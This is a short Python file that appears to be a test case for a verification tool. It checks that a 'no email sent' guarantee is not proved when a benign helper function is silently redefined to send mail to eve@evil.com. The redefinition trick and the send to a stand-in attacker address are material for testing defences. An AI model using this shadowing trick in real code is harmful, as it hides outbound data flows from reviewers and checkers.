# not proved: the later definition is the one that runs
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def helper():
    log("x")


def helper():
    send_email("eve@evil.com", "x")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    helper()
